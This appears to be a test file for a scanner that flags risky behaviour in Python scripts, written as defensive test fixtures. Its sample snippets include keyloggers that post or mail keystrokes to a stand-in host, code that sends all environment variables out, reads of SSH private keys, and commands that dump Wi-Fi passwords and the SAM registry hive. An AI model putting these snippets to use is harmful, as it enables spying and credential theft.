import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { analyseBehaviour } from '../../../extension/analyse/behaviour.ts';
import type { AiUsage, Finding } from '../../../extension/analyse/types.ts';
import { readScriptSource } from '../../../extension/parse/script-source.ts';
import { analyse } from '../../helpers/behaviour.ts';
import { finds, rulesOf, silent } from '../../helpers/rules.ts';

const test = suite('scripts as people and assistants write them');

function finding(text: string, rule: string): Finding | undefined {
  return analyse(text).findings.find((each) => each.rule === rule);
}

function sources(text: string): readonly string[] {
  return analyse(text).aiUsage.flatMap(({ flows }) => flows.map(({ source }) => source));
}

function usage(text: string): AiUsage | undefined {
  return analyse(text).aiUsage[0];
}

test('who waits for a key takes no note of what is typed', () => {
  const stop =
    'from pynput import keyboard\nstop = False\ndef on_key(key):\n    global stop\n    if key == keyboard.Key.esc:\n        stop = True\n        return False\nkeyboard.Listener(on_press=on_key).start()';
  assert.is(finding(stop, 'PYS-DATA-012')?.severity, 'low');
  assert.is(finding(stop, 'PYS-DATA-012')?.message, 'Waits for certain keys');
  for (const body of ['log.append(key)', 'if key == q: stop()\n    write(str(key))', 'f.write(key.char)'])
    assert.is(
      finding(
        `from pynput import keyboard\ndef note(key):\n    ${body}\nkeyboard.Listener(on_press=note).start()`,
        'PYS-DATA-012',
      )?.severity,
      'high',
      body,
    );
  const state = (argument: string) =>
    finding(
      `import win32api, win32con\nfor i in range(8, 190):\n    if win32api.GetAsyncKeyState(${argument}): go()`,
      'PYS-DATA-012',
    )?.severity;
  assert.is(state('win32con.VK_ESCAPE'), 'low');
  assert.is(state('0x1B'), 'low');
  assert.is(state('i'), 'high');
  silent('PYS-DATA-012', 'from pynput import keyboard\nkeyboard.GlobalHotKeys({"<ctrl>+q": quit}).start()');
});

test('keystrokes are followed from the listener to where they go', () => {
  const logger = (start: string) =>
    `from pynput import keyboard\nimport requests\nlog = []\ndef on_press(key):\n    log.append(key.char)\ndef flush():\n    requests.post("https://collect.partner-site.com/k", json={"k": "".join(log)})\n${start}`;
  for (const start of [
    'flush()\nkeyboard.Listener(on_press=on_press).start()',
    'keyboard.Listener(on_press=on_press).start()\nflush()',
  ]) {
    const sent = finding(logger(start), 'PYS-NET-006');
    assert.is(sent?.message, 'Sends data that it read (keystrokes) to collect.partner-site.com', start);
    assert.is(sent?.severity, 'high');
  }
  const mailed =
    'import keyboard, smtplib\nclass K:\n    def __init__(self):\n        self.log = ""\n    def note(self, event):\n        self.log += event.name\n    def report(self):\n        smtplib.SMTP("smtp.gmail.com").sendmail("a@b.de", "a@b.de", self.log)\n    def start(self):\n        keyboard.on_release(callback=self.note)\n        self.report()\nK().start()';
  assert.is(finding(mailed, 'PYS-NET-009')?.message, 'Sends mail with data that it read (keystrokes)');
});

test('what a function puts into a list of the module is seen by one that ran before', () => {
  assert.equal(
    sources(
      'import pandas as pd\nfrom openai import OpenAI\nrows = []\ndef load(p):\n    rows.append(pd.read_excel(p))\ndef ask():\n    OpenAI().responses.create(model="gpt-4o", input=str(rows))\nask()\nload("a.xlsx")',
    ),
    ['spreadsheet'],
  );
});

test('a name that is taken out of a list is no file that is deleted', () => {
  silent(
    'PYS-DESTR',
    'import os\nfor root, dirs, files in os.walk("."):\n    for d in list(dirs):\n        dirs.remove(d)',
    'import os\nnames = os.listdir(".")\nfor n in list(names):\n    names.remove(n)',
  );
  finds('PYS-DESTR-002', 'import os\nfor n in os.listdir("."):\n    os.remove(n)');
});

test('buckets, accounts and applications are no hosts of the internal network', () => {
  for (const url of ['s3://acme-lake/x.csv', 'gs://acme/a.pdf', 'hf://datasets/x', 'chrome://settings'])
    assert.equal(analyse(`import x\nx.get("${url}")\nU = "${url}"`).hosts, [], url);
  assert.is(analyse('U = "redis://cache:6379"').hosts[0]?.class, 'internal');
  assert.is(
    finding('import polars as pl\npl.scan_parquet("s3://acme-lake/o/*.parquet")', 'PYS-DATA-015')?.message,
    'Reads cloud storage: s3://acme-lake/o/*.parquet',
  );
  finds('PYS-DATA-015', 'import pandas as pd\ndf.to_csv("gs://acme/out.csv")');
  finds('PYS-DATA-003', 'import pandas as pd\npd.read_parquet("orders.parquet")');
});

test('the webhook of a manual is none', () => {
  silent(
    'PYS-NET-004',
    'HOOK = "https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX"',
  );
  finds('PYS-NET-004', 'HOOK = "https://hooks.slack.com/services/T02AB34CD/B0998877A/q8"');
});

test('what is spoken both ways is connected to', () => {
  const message = (text: string, rule = 'PYS-NET-001') => finding(text, rule)?.message;
  assert.is(
    message('import paramiko\nparamiko.SSHClient().connect("sftp.partner-site.com")'),
    'Connects to the host sftp.partner-site.com',
  );
  assert.is(
    message('import socket\ns = socket.socket()\ns.connect(("94.156.71.12", 9001))', 'PYS-NET-005'),
    'Connects to the address 94.156.71.12',
  );
});

test('a variable that is set is not read', () => {
  const says = (text: string) => finding(text, 'PYS-AI-003')?.message;
  const sets = 'Sets OPENAI_API_KEY, a key of OpenAI';
  assert.is(says('import os\nos.environ["OPENAI_API_KEY"] = load()'), sets);
  assert.is(says('def test_it(monkeypatch):\n    monkeypatch.setenv("OPENAI_API_KEY", "k")'), sets);
  for (const text of [
    'os.environ["OPENAI_API_KEY"]',
    'os.environ["OPENAI_API_KEY"] == ""',
    'os.getenv("OPENAI_API_KEY")',
  ])
    assert.is(says(`import os\nk = ${text}`), 'Reads OPENAI_API_KEY, a key of OpenAI', text);
});

test('the whole environment in a request', () => {
  const post = (body: string) =>
    finding(
      `import os, json, requests\nrequests.post("https://collect.partner-site.com/i", ${body})`,
      'PYS-NET-006',
    );
  for (const body of [
    'json=dict(os.environ)',
    'data=json.dumps(dict(os.environ)).encode()',
    'json={"host": 1, "env": os.environ.copy()}',
  ]) {
    assert.is(post(body)?.message, 'Sends all environment variables to collect.partner-site.com', body);
    assert.is(post(body)?.severity, 'high');
  }
  assert.is(post('json={"stage": os.environ["STAGE"], "n": len(os.environ)}'), undefined);
});

test('key files by a path in pieces, and credentials that a command shows', () => {
  finds(
    'PYS-DATA-018',
    'import pathlib\nk = (pathlib.Path.home() / ".ssh" / "id_rsa").read_bytes()',
    'import os\nk = open(os.path.join(home, ".ssh", "id_ed25519")).read()',
  );
  silent('PYS-DATA-018', 'import pathlib\nk = (pathlib.Path.home() / ".ssh" / "config").read_text()');
  const run = (command: string) => `import subprocess\nsubprocess.run('${command}', shell=True)`;
  finds(
    'PYS-DATA-019',
    run('netsh wlan show profile name="x" key=clear'),
    run('reg save HKLM\\\\SAM sam.hiv'),
  );
  silent('PYS-DATA-019', run('netsh wlan show profiles'), run('reg query HKLM\\\\SAM'));
});

test('robots of BotCity and of the RPA framework', () => {
  finds(
    'PYS-DATA-008',
    'from botcity.core import DesktopBot\nclass Bot(DesktopBot):\n    def action(self, execution=None):\n        self.execute("a.exe")\nBot.main()',
  );
  const robot = (use: string) =>
    `from RPA.Excel.Files import Files\nfrom RPA.Email.ImapSmtp import ImapSmtp\nfrom RPA.Database import Database\n${use}`;
  finds('PYS-DATA-001', robot('x = Files()\nx.open_workbook("a.xlsx")'));
  finds('PYS-DATA-006', robot('m = ImapSmtp()\nm.list_messages()'));
  finds('PYS-NET-009', robot('m = ImapSmtp()\nm.send_message(sender="a", recipients="b")'));
  finds('PYS-DATA-005', robot('d = Database()\nd.connect_to_database("psycopg2", "x")'));
});

test('what comes from a service in somebody’s name is no public page', () => {
  const ask = (get: string) =>
    `import requests\nfrom openai import OpenAI\nh = {"Authorization": "Bearer " + t}\nd = ${get}\nOpenAI().responses.create(model="gpt-4o", input=d.text)`;
  assert.equal(sources(ask('requests.get("https://news.partner-site.com/a")')), ['web page']);
  assert.equal(sources(ask('requests.get("https://api.partner-site.com/a", headers=h)')), ['online service']);
  assert.equal(sources(ask('requests.get("https://api.partner-site.com/a", auth=(u, p))')), [
    'online service',
  ]);
  assert.equal(sources(ask('requests.get("https://acme.atlassian.net/rest/api/3/search")')), [
    'business system',
  ]);
  assert.equal(
    sources(ask('requests.get("https://graph.microsoft.com/v1.0/me/drive/root/children", headers=h)')),
    ['cloud storage'],
  );
  assert.equal(sources(ask('requests.get("https://graph.microsoft.com/v1.0/me/messages", headers=h)')), [
    'mail',
  ]);
  assert.not.ok(
    rulesOf(
      'import requests\nd = requests.get("https://api.partner-site.com/a", auth=(u, p)).json()\nrequests.post("https://b.partner-site.com", json=d)',
    ).includes('PYS-NET-006'),
  );
});

test('a connection says less than what a tool asks over it, and what tools depend on is not sent', () => {
  assert.equal(
    analyse(
      'import psycopg\nfrom agents import Agent, function_tool\n@function_tool\ndef record(i: int) -> str:\n    with psycopg.connect(DSN) as conn, conn.cursor() as cur:\n        cur.execute("SELECT a FROM hr.staff WHERE id = %s", (i,))\n        row = cur.fetchone()\n    return str(row)\nAgent(name="a", model="gpt-5", tools=[record])',
    ).aiUsage.flatMap(({ flows }) => [...new Set(flows.map(({ name }) => name))]),
    ['hr.staff'],
  );
  assert.equal(
    sources(
      'import sqlite3\nfrom pydantic_ai import Agent\nagent = Agent("anthropic:claude-sonnet-4-0")\nconn = sqlite3.connect("bank.db")\nagent.run_sync("hello", deps=conn)',
    ),
    [],
  );
});

test('an agent that need not ask before it runs a command', () => {
  const agent = (options: string) =>
    `from claude_agent_sdk import query, ClaudeAgentOptions\no = ClaudeAgentOptions(${options})`;
  finds('PYS-AI-011', agent('allowed_tools=["Read", "Bash"]'), agent('permission_mode="bypassPermissions"'));
  silent(
    'PYS-AI-011',
    agent('allowed_tools=["Read", "Grep"], permission_mode="acceptEdits"'),
    agent('allowed_tools=["Bash(git status)"]'),
  );
});

test('models, files and recordings as newer libraries take them', () => {
  assert.equal(
    usage(
      'from agno.agent import Agent\nfrom agno.models.openai import OpenAIChat\nAgent(model=OpenAIChat(id="gpt-4o"))',
    )?.models,
    ['gpt-4o'],
  );
  assert.equal(
    sources(
      'import deepl\ndeepl.Translator(k).translate_document_from_filepath("Vertrag.docx", "Contract.docx", target_lang="EN-GB")',
    ),
    ['document'],
  );
  assert.equal(
    sources(
      'import io, sounddevice as sd, soundfile as sf\nfrom openai import OpenAI\naudio = sd.rec(44100)\nbuf = io.BytesIO()\nsf.write(buf, audio, 16000, format="WAV")\nOpenAI().audio.transcriptions.create(model="whisper-1", file=buf)',
    ),
    ['microphone'],
  );
  assert.equal(
    sources(
      'from haystack import Pipeline\nfrom haystack.components.converters import PyPDFToDocument\nfrom haystack.components.generators.chat import OpenAIChatGenerator\ndocs = PyPDFToDocument().run(sources=["a.pdf"])["documents"]\np = Pipeline()\np.add_component("llm", OpenAIChatGenerator(model="gpt-4o-mini"))\np.run({"llm": {"messages": docs}})',
    ),
    ['document'],
  );
  silent('PYS-DATA-015', 'import google.generativeai as genai\ngenai.upload_file("Arbeitsvertrag.pdf")');
});

test('a key that a magic puts into the environment', () => {
  const notebook = (magic: string) => {
    const cells = [magic, 'from openai import OpenAI\nOpenAI()'].map((source) => ({
      cell_type: 'code',
      source,
    }));
    const book = JSON.stringify({ cells, metadata: {}, nbformat: 4 });
    return analyseBehaviour(readScriptSource(Buffer.from(book), 'a.ipynb'));
  };
  const told = notebook('%env OPENAI_API_KEY=sk-proj-q8Zt4LwPm2Rk7Vd1Xy5Nb3Hs');
  assert.is(told.aiUsage[0]?.keySource, 'literal');
  assert.ok(told.findings.some(({ rule }) => rule === 'PYS-AI-004'));
  for (const magic of ['%env OPENAI_API_KEY=your-key', '%env LANG=C', '%env'])
    assert.is(notebook(magic).aiUsage[0]?.keySource, 'environment', magic);
});

test('models that run in the cloud of Ollama are no local ones', () => {
  const uses = (text: string) =>
    analyse(`import ollama\nfrom ollama import Client\n${text}`).aiUsage.map(
      ({ provider, access }) => `${provider} ${access}`,
    );
  const cloud = 'Ollama Cloud sdk';
  assert.equal(uses('Client(host="https://ollama.com", headers=h).chat(model="gpt-oss:120b", messages=m)'), [
    cloud,
  ]);
  assert.equal(uses('ollama.chat(model="gpt-oss:120b-cloud", messages=m)'), [cloud]);
  assert.equal(
    analyse(
      'from langchain_ollama import ChatOllama\nChatOllama(model="qwen3-coder:480b-cloud").invoke(x)',
    ).aiUsage.map(({ provider, access }) => `${provider} ${access}`),
    ['Ollama Cloud framework'],
  );
  assert.ok(uses('c = Client()\nc.chat(model="kimi-k2:1t-cloud", messages=m)').includes(cloud));
  assert.equal(uses('Client(host="http://10.0.0.7:11434").chat(model="gemma3", messages=m)'), [
    'Ollama local',
  ]);
  assert.equal(
    analyse('import requests\nrequests.post("https://ollama.com/api/chat", json={"model": "gpt-oss:120b"})')
      .aiUsage[0]?.provider,
    'Ollama Cloud',
  );
});

test('a batch of completions, and the resolver that scripts learn their own address by', () => {
  assert.equal(
    sources(
      'import litellm, pandas as pd\ndf = pd.read_excel("crm.xlsx")\nlitellm.batch_completion(model="gpt-4o", messages=[[{"role": "user", "content": t}] for t in df.text])',
    ),
    ['spreadsheet'],
  );
  silent('PYS-NET-005', 'import socket\ns = socket.socket()\ns.connect(("8.8.8.8", 80))');
  finds('PYS-NET-005', 'import socket\ns = socket.socket()\ns.connect(("94.156.71.12", 80))');
});

test('an index whose models both run on the machine sends nothing outside', () => {
  const index = (embeddings: string) =>
    `from llama_index.llms.ollama import Ollama\nfrom llama_index.core import VectorStoreIndex, SimpleDirectoryReader, Settings\n${embeddings}\nSettings.llm = Ollama(model="llama3.1")\nVectorStoreIndex.from_documents(SimpleDirectoryReader("docs").load_data()).as_query_engine().query(q)`;
  const local = analyse(
    index(
      'from llama_index.embeddings.huggingface import HuggingFaceEmbedding\nSettings.embed_model = HuggingFaceEmbedding(model_name="BAAI/bge-small-en-v1.5")',
    ),
  );
  assert.equal(local.aiUsage.map(({ provider }) => provider).sort(), ['Hugging Face Transformers', 'Ollama']);
  assert.equal(
    local.findings.filter(({ rule }) => rule === 'PYS-AI-008').map(({ severity }) => severity),
    ['info'],
  );
  const mixed = analyse(
    index(
      'from llama_index.embeddings.openai import OpenAIEmbedding\nSettings.embed_model = OpenAIEmbedding(model="text-embedding-3-small")',
    ),
  );
  assert.ok(mixed.findings.some(({ rule, severity }) => rule === 'PYS-AI-008' && severity === 'medium'));
});

test('a key that opens a session is used for what it is for', () => {
  const severity = (text: string) => finding(text, 'PYS-DATA-018')?.severity;
  for (const text of [
    'import pysftp\npysftp.Connection("files.partner-site.com", private_key="~/.ssh/id_rsa")',
    'import os, paramiko\nKEY = os.path.expanduser("~/.ssh/id_ed25519")\nparamiko.SSHClient().connect("h", key_filename=KEY)',
    'import paramiko\nparamiko.RSAKey.from_private_key_file("/home/a/.ssh/id_rsa")',
    'import subprocess\nsubprocess.run(["ssh", "-i", "/home/a/.ssh/id_rsa", "h", "uptime"])',
  ])
    assert.is(severity(text), 'low', text);
  assert.is(severity('open("/home/ana/.ssh/id_rsa").read()'), 'high');
});

test('a camera by its number, and what is deleted in a cloud', () => {
  assert.is(
    finding('import cv2\ncv2.VideoCapture(0).read()', 'PYS-DATA-014')?.message,
    'Reads the microphone or camera',
  );
  silent('PYS-DATA-014', 'import cv2\ncv2.VideoCapture("clip.mp4").read()');
  assert.is(
    finding(
      'import boto3\nfor v in boto3.resource("ec2").volumes.filter(Filters=f):\n    v.delete()',
      'PYS-DESTR-008',
    )?.message,
    'Deletes cloud resources: volumes.filter.delete',
  );
});

test.run();
